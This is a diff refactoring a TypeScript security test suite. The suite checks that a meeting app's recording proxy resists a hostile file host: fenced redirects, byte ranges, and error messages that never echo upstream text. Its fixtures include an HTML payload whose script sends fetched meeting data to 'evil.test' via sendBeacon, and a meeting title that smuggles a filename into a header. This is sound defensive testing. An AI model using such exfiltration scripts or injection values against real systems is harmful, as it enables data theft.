@@ -8,7 +8,7 @@ import type { AddressInfo } from "node:net";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { Actor } from "@/lib/auth/actor";
 import { appFixture, meetingInput } from "../support/app-fixture";
-import { type Client, createPeople, signedIn, type Person } from "../reliability/support/http-client";
+import { createPeople, signedIn } from "../reliability/support/http-client";
 
 const SECRET = "INTERNAL-ONLY-7f3a";
 const HTML = `<!doctype html><script>fetch("/api/meetings").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.test",t))</script>`;
@@ -39,15 +39,8 @@ const app = appFixture();
 const m = app.lib;
 let internal: Server;
 let hostile: Server;
-let admin: Person;
-let adminActor: Actor;
-let browser: Client;
-const recordingIds = new Map<string, string>();
 
 beforeAll(async () => {
-  const { encryptSecret } = await import("@/lib/crypto");
-  const { scheduleMeeting } = await import("@/lib/meetings/schedule-meeting");
-
   // Something on this machine that must stay unreachable: a database console, an admin port…
   internal = await serve((_req, res) => {
     res.writeHead(200, { "Content-Type": "text/plain" });
@@ -114,9 +107,22 @@ beforeAll(async () => {
     res.writeHead(404, { "Content-Type": "application/json" });
     res.end(JSON.stringify({ error: { code: "not_found", message: SECRET } }));
   });
+});
 
-  ({ adminA: admin } = await createPeople(m.db));
-  adminActor = admin;
+afterAll(async () => {
+  await hostile?.close();
+  await internal?.close();
+});
+
+/**
+ * Workspace A's admin, whose workspace now talks to the hostile "Sautikit", signed in over HTTP, with
+ * a recording for each trick the file host plays (by call id).
+ */
+const given = app.given(async () => {
+  const { encryptSecret } = await import("@/lib/crypto");
+  const { scheduleMeeting } = await import("@/lib/meetings/schedule-meeting");
+  const { adminA: admin } = await createPeople(m.db);
+  const adminActor: Actor = admin;
   // The hostile admin's doing: the workspace now talks to their "Sautikit" (as saving it in
   // Settings does in local mode, where any loopback port is accepted as the emulator).
   await m.db.sautikitConnection.update({
@@ -127,22 +133,18 @@ beforeAll(async () => {
     adminActor,
     meetingInput({ title: 'Board "sync"; filename=evil.html', record: true, waitForHost: false, endOnHostExit: false }),
   );
+  const recordingIds = new Map<string, string>();
   for (const callId of ["away", "mapped", "metadata", "chain", "loop", "html", "ranged"]) {
     const rec = await m.db.recording.create({
       data: { workspaceId: admin.workspaceId, meetingId: meeting.id, callId },
     });
     recordingIds.set(callId, rec.id);
   }
-  browser = await signedIn(app.url, admin);
+  return { admin, adminActor, recordingIds, browser: await signedIn(app.url, admin) };
 }, 60_000);
 
-afterAll(async () => {
-  await hostile?.close();
-  await internal?.close();
-});
-
 const audio = (callId: string, query = "", headers: Record<string, string> = {}) =>
-  browser.fetch(`/api/recordings/${recordingIds.get(callId)}/audio${query}`, { headers });
+  given.browser.fetch(`/api/recordings/${given.recordingIds.get(callId)}/audio${query}`, { headers });
 
 describe("recording redirects are fenced", () => {
   it.each([
@@ -240,7 +242,7 @@ describe("byte ranges the file host answers itself", () => {
 describe("connection errors say what to fix and never echo the other side", () => {
   it("a test of the hostile connection reports no upstream text", async () => {
     const { testConnection } = await import("@/lib/sautikit/manage-connection");
-    const err = (await testConnection(adminActor).then(
+    const err = (await testConnection(given.adminActor).then(
       () => {
         throw new Error("expected a failure");
       },
@@ -250,7 +252,7 @@ describe("connection errors say what to fix and never echo the other side", () =
     expect(`${err.message} ${err.requestId ?? ""} ${JSON.stringify(err.details)}`).not.toMatch(
       new RegExp(`${SECRET}|<img|<h1>`),
     );
-    const row = await m.db.sautikitConnection.findUniqueOrThrow({ where: { workspaceId: admin.workspaceId } });
+    const row = await m.db.sautikitConnection.findUniqueOrThrow({ where: { workspaceId: given.admin.workspaceId } });
     expect(row.lastError).not.toContain(SECRET);
   });
 
@@ -259,7 +261,7 @@ describe("connection errors say what to fix and never echo the other side", () =
     const closed = await serve(() => undefined);
     await closed.close();
     await expect(
-      saveConnection(adminActor, { apiBaseUrl: closed.url, apiKey: "sk_test_12345678" }),
+      saveConnection(given.adminActor, { apiBaseUrl: closed.url, apiKey: "sk_test_12345678" }),
     ).rejects.toMatchObject({
       code: "SAUTIKIT_UNAVAILABLE",
       message: `Sautikit could not be reached at 127.0.0.1:${closed.port}. Check the API base URL, or try again shortly.`,
